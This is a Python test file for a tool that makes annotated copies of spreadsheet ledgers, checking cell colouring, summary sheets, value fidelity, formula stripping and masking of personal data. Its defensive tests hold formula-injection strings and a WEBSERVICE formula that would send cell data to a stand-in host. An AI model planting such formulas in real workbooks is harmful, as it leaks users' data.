"""The annotated copy shows every finding at its cell, alters no value, and gives nobody away."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from openpyxl.workbook.workbook import Workbook

from tests.unit.intake.builders.files import archive, small_workbook, workbook, written
from warehouse.intake.copies import annotated_copy
from warehouse.intake.copies.annotated_copy import annotate
from warehouse.intake.copies.annotated_sheet import COLOURS
from warehouse.intake.findings.finding import ROW_STATUSES, Finding, findings_frame
from warehouse.intake.workbook.files import read_files

FILES = Path(__file__).parents[1] / "workbook" / "files"
ID_NUMBER, MOBILE = "11010519491231002X", "13800138000"
SUMMARY = "检查结果"


def copy_of(
    path: Path, *findings: Finding, statuses: pl.DataFrame | None = None, language: str = "zh"
) -> Workbook:
    return openpyxl.load_workbook(
        io.BytesIO(bytes_of(path, *findings, statuses=statuses, language=language))
    )


def bytes_of(
    path: Path, *findings: Finding, statuses: pl.DataFrame | None = None, language: str = "zh"
) -> bytes:
    reference = pl.DataFrame(schema=ROW_STATUSES) if statuses is None else statuses
    return annotate(path, findings_frame(findings), reference, language)


def statuses_of(file: str, sheet: str, *statuses: tuple[str, str | None]) -> pl.DataFrame:
    rows = [(file, sheet, row, *status, row) for row, status in enumerate(statuses, start=1)]
    return pl.DataFrame(rows, schema=ROW_STATUSES, orient="row")


def colour(cell) -> str:
    return f"#{cell.fill.start_color.rgb[2:]}" if cell.fill.fill_type else ""


def everything_in(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as container:
        return "".join(
            container.read(name).decode("utf-8", "replace") for name in container.namelist()
        )


def test_a_cell_has_the_colour_of_its_gravest_finding_and_a_comment_with_each(tmp_path: Path):
    path = written(tmp_path, "台账.xlsx", small_workbook())
    book = copy_of(
        path,
        Finding("file_formulas", "noted", "台账.xlsx", "台账", 2, 2, details={"count": "3"}),
        Finding("file_not_calculated", "rejected", "台账.xlsx", "台账", 2, 2),
        Finding("file_has_macros", "warned", "台账.xlsx", "台账", 2, 3),
        Finding("file_has_macros", "pending", "台账.xlsx", "台账", 2),
        Finding("file_not_calculated", "rejected", "另一个.xlsx", "台账", 1, 1),
    )
    sheet = book["台账"]
    assert colour(sheet["B2"]) == COLOURS["rejected"]
    assert colour(sheet["C2"]) == COLOURS["warned"]
    assert colour(sheet["A2"]) == COLOURS["pending"]
    assert colour(sheet["A1"]) == ""
    text = sheet["B2"].comment.text
    assert text.index("【退回】") < text.index("【说明】")
    assert "这张表有 3 个公式" in text
    assert "保存一次" in text
    assert sheet["A1"].comment is None


def test_the_first_sheet_counts_and_lists(tmp_path: Path):
    path = written(tmp_path, "台账.xlsx", small_workbook())
    book = copy_of(
        path,
        Finding("file_not_calculated", "rejected", "台账.xlsx", "台账", 2, 2, "问题", "=?"),
        Finding("file_has_macros", "warned", "台账.xlsx"),
        statuses=statuses_of("台账.xlsx", "台账", ("skipped", "header"), ("rejected", None)),
    )
    assert book.sheetnames == [SUMMARY, "台账"]
    rows = [[value for value in row if value not in (None, "")] for row in book[SUMMARY].values]
    assert ["台账.xlsx", "台账", 2, 0, 0, 1, 1] in rows
    assert ["退回", "公式没有结果", 1] in rows
    assert ["提醒", "含有宏", 1] in rows
    listed = [row for row in rows if row[:4] == ["退回", "台账.xlsx", "台账", "B2"]]
    assert [row[4:6] for row in listed] == [["问题", "=?"]]
    cells = [cell for row in book[SUMMARY].iter_rows() for cell in row]
    links = [cell.hyperlink.location for cell in cells if cell.hyperlink]
    assert links == ["'台账'!B2"]


def test_english_readers_are_told_in_english(tmp_path: Path):
    path = written(tmp_path, "ledger.xlsx", small_workbook())
    book = copy_of(path, Finding("file_has_macros", "warned", "ledger.xlsx"), language="en")
    words = " ".join(
        str(value) for row in book[book.sheetnames[0]].values for value in row if value
    )
    assert "Contains macros" in words
    assert not any("\u4e00" <= letter <= "\u9fff" for letter in words)


def test_every_value_is_the_one_that_was_read(tmp_path: Path):
    def fill(book, sheet):
        day = book.add_format({"num_format": "yyyy-mm-dd"})
        month_and_day = book.add_format({"num_format": 'm"月"d"日"'})
        sheet.merge_range("A1:D1", "附件1")
        sheet.write_row(1, 0, ["村", 3, 2.5, True])
        sheet.write_datetime(2, 0, dt.datetime(2021, 6, 30), day)
        sheet.write_datetime(2, 1, dt.datetime(2021, 6, 30), month_and_day)
        sheet.write_datetime(2, 2, dt.datetime(2021, 6, 30, 8, 30), day)
        sheet.write_string(2, 3, "007")
        sheet.write_formula(3, 0, "=6*7", None, 42)
        sheet.write_string(4, 0, "划掉", book.add_format({"font_strikeout": True}))
        sheet.set_row(4, None, None, {"hidden": True})
        sheet.set_column("D:D", 9, None, {"hidden": True})
        sheet.write_comment("A2", "村里的说明")
        book.add_worksheet("上年").write(0, 0, "旧")
        book.get_worksheet_by_name("上年").hide()

    path = written(tmp_path, "台账.xlsx", workbook(fill))
    original = read_files([path])[0][0].sheets
    copied = read_files([written(tmp_path, "副本.xlsx", bytes_of(path))])[0][0].sheets[1:]
    assert [sheet.name for sheet in copied] == ["台账", "上年"]
    for before, after in zip(original, copied, strict=True):
        assert after.rows == before.rows
        assert after.merged == before.merged
        assert after.struck == before.struck
        assert after.yearless_dates == before.yearless_dates
        assert after.hidden_rows == before.hidden_rows
        assert after.hidden_columns == before.hidden_columns
        assert after.is_hidden == before.is_hidden
    assert copied[0].notes == {(2, 1): "原批注:村里的说明"}


@pytest.mark.parametrize(
    "text", ["=1+1", "+86", "-无", "@甲", " =1", '=HYPERLINK("http://a")', "{=1}"]
)
def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path, text: str):
    path = written(tmp_path, "台账.xlsx", workbook(lambda _, sheet: sheet.write_string(0, 0, text)))
    finding = Finding("file_not_calculated", "rejected", "台账.xlsx", "台账", 1, 1, text, text)
    data = bytes_of(path, finding)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cell = book["台账"]["A1"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert cell.quotePrefix == (text.lstrip()[0] in "=+-@")
    assert "<f>" not in everything_in(data)


def test_no_formula_of_the_ledger_is_carried_along(tmp_path: Path):
    def fill(_, sheet):
        sheet.write_formula(0, 0, '=WEBSERVICE("http://example.invalid/?"&A2)', None, "值")
        sheet.write_formula(1, 0, "=1/0", None, "#DIV/0!")

    data = bytes_of(written(tmp_path, "台账.xlsx", workbook(fill)))
    assert [cell[0] for cell in openpyxl.load_workbook(io.BytesIO(data))["台账"].values] == [
        "值",
        "#DIV/0!",
    ]
    assert "WEBSERVICE" not in everything_in(data)


def test_personal_data_are_nowhere_in_the_copy(tmp_path: Path):
    def fill(book, sheet):
        book.set_properties({"author": "王建国", "comments": MOBILE})
        sheet.set_header(f"&C{MOBILE}")
        sheet.write_row(0, 0, ["序号", "问题", "责任人", "备注"])
        sheet.write_row(1, 0, [1, f"村会计身份证号{ID_NUMBER}", "欧阳修文", int(MOBILE)])
        sheet.write_string(2, 1, f"电话:{MOBILE}")
        sheet.write_comment(1, 0, f"联系 {MOBILE}")
        hidden = book.add_worksheet("通讯录")
        hidden.write_row(0, 0, ["姓名", "电话"])
        hidden.write_row(1, 0, ["司马光远", float(MOBILE)])
        hidden.hide()
        book.define_name("电话", f'="{MOBILE}"')

    path = written(tmp_path, "台账.xlsx", workbook(fill))
    statuses = statuses_of(
        "台账.xlsx", "台账", ("skipped", "header"), ("rejected", None), ("accepted", None)
    )
    finding = Finding(
        "file_not_calculated", "rejected", "台账.xlsx", "台账", 2, 2, "问题", "村会计1101**"
    )
    data = bytes_of(path, finding, statuses=statuses)
    written_out = everything_in(data)
    for personal in (ID_NUMBER, MOBILE, "欧阳修文", "司马光远", "王建国"):
        assert personal not in written_out
    sheet = openpyxl.load_workbook(io.BytesIO(data))["台账"]
    assert [cell.value for cell in sheet[1]] == ["序号", "问题", "责任人", "备注"]
    assert sheet["B2"].value.startswith("村会计身份证号1101")
    assert sheet["C2"].value == "***"
    assert sheet["D2"].value.startswith("138")
    assert sheet["A2"].value == 1


def test_a_value_that_a_finding_hides_is_hidden_in_its_cell(tmp_path: Path):
    path = written(tmp_path, "台账.xlsx", small_workbook())
    finding = Finding("file_not_calculated", "rejected", "台账.xlsx", "台账", 2, 2, "问题", "财**")
    assert copy_of(path, finding)["台账"]["B2"].value == "财**"


def test_a_text_table_and_an_old_workbook_come_back_as_a_workbook(tmp_path: Path):
    table = written(tmp_path, "村.csv", "序号,村\n1,甲村\n".encode("gbk"))
    book = copy_of(table, Finding("file_not_calculated", "rejected", "村.csv", "村", 2, 2))
    assert list(book["村"].values) == [("序号", "村"), ("1", "甲村")]
    assert colour(book["村"]["B2"]) == COLOURS["rejected"]
    old = copy_of(FILES / "整改台账.xls")
    assert old["整改台账"]["B3"].value == "财务公开不及时"


def test_an_archive_comes_back_as_one_workbook(tmp_path: Path):
    path = written(
        tmp_path, "台账.zip", archive({"甲.xlsx": small_workbook(), "乙.xlsx": small_workbook()})
    )
    book = copy_of(
        path, Finding("file_not_calculated", "rejected", "台账.zip/乙.xlsx", "台账", 2, 1)
    )
    assert book.sheetnames == [SUMMARY, "台账", "台账 (2)"]
    assert colour(book["台账"]["A2"]) == ""
    assert colour(book["台账 (2)"]["A2"]) == COLOURS["rejected"]


def test_files_of_one_name_are_told_apart_by_their_folder(tmp_path: Path):
    folders = [tmp_path / "甲乡", tmp_path / "乙乡"]
    for folder in folders:
        folder.mkdir()
    paths = [written(folder, "台账.xlsx", small_workbook()) for folder in folders]
    findings = [Finding("file_not_calculated", "rejected", "乙乡/台账.xlsx", "台账", 2, 1)]
    assert [colour(copy_of(path, *findings)["台账"]["A2"]) for path in paths] == [
        "",
        COLOURS["rejected"],
    ]


def test_a_file_that_cannot_be_read_has_the_first_sheet_only(tmp_path: Path):
    book = copy_of(written(tmp_path, "台账.pdf", b"%PDF-1.7"))
    assert book.sheetnames == [SUMMARY]
    words = " ".join(str(value) for row in book[SUMMARY].values for value in row if value)
    assert "PDF" in words


def test_of_a_large_file_rows_with_findings_are_written_under_their_own_numbers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(annotated_copy, "MOST_CELLS", 12)
    table = "".join(f"{row},村{row},\n" for row in range(1, 101)).replace(",\n", ",x\n")
    path = written(tmp_path, "村.csv", table.encode())
    collected = [
        Finding("file_has_macros", "warned", "村.csv", "村", row, 2) for row in (10, 20, 30)
    ]
    collected.append(Finding("file_not_calculated", "rejected", "村.csv", "村", 90, 2))
    statuses = statuses_of("村.csv", "村", ("skipped", "header"), *[("accepted", None)] * 99)
    book = copy_of(path, *collected, statuses=statuses)
    sheet = book["村"]
    shown = {
        cell.row: cell.value for row in sheet.iter_rows(max_col=1) for cell in row if cell.value
    }
    assert shown == {1: "1", 10: "10", 20: "20", 90: "90"}
    assert sheet.sheet_format.zeroHeight
    words = " ".join(str(value) for row in book[SUMMARY].values for value in row if value)
    assert "只写出表头和有问题的 3 行" in words
    assert "还有 1 行" in words


def test_a_hidden_row_or_sheet_with_a_finding_is_shown(tmp_path: Path):
    def fill(book, sheet):
        sheet.write(0, 0, "甲")
        sheet.set_row(0, None, None, {"hidden": True})
        sheet.hide()
        book.add_worksheet("别的").activate()

    path = written(tmp_path, "台账.xlsx", workbook(fill))
    finding = Finding("file_not_calculated", "rejected", "台账.xlsx", "台账", 1, 1)
    sheet = copy_of(path, finding)["台账"]
    assert sheet.sheet_state == "visible"
    assert not sheet.row_dimensions[1].hidden
    assert copy_of(path)["台账"].sheet_state == "hidden"


def test_the_copy_of_a_template_is_a_template(tmp_path: Path):
    data = workbook(
        lambda book, sheet: (sheet.write(0, 0, 1), book.set_custom_property("xuntu_template", "1"))
    )
    path = written(tmp_path, "模板.xlsx", data)
    copy = written(tmp_path, "副本.xlsx", bytes_of(path))
    assert read_files([copy])[0][0].template_version == "1"
